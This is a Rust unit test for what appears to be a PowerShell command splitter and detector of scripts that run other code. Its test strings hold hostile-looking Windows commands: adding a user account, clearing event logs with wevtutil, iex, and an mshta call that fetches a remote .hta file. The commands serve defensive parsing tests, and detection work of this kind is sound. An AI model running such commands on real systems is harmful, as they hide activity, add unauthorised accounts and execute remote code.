use super::*;

#[test]
fn commands_of_a_script() {
    let script = "net user a 'b;c' /add; & 'C:\\x y\\a.exe' -q|% {wevtutil cl x}\n. C:\\b.ps1";
    let found: Vec<_> = commands(script).map(str::trim_end).collect();
    assert_eq!(
        found,
        [
            "net user a 'b;c' /add",
            "'C:\\x y\\a.exe' -q",
            "%",
            "wevtutil cl x",
            "C:\\b.ps1"
        ]
    );
    assert_eq!(commands("").count(), 0);
    let script = "$a = vssadmin list; Start-Process -FilePath net -ArgumentList 'user'; iex 'wevtutil cl x'; $a -eq $b";
    let found: Vec<_> = commands(script).collect();
    assert_eq!(
        found,
        [
            "vssadmin list",
            "net -ArgumentList 'user'",
            "'wevtutil cl x'",
            "$a -eq $b"
        ]
    );
    assert!(runs_other_code(r"& 'C:\Users\Public\a b.ps1' -x"));
    assert!(runs_other_code(r"C:\Users\Public\a.ps1"));
    assert!(runs_other_code("mshta http://10.0.0.9/a.hta"));
    assert!(!runs_other_code(
        r"C:\Windows\a.ps1; Get-Content C:\Users\Public\a.txt"
    ));
}
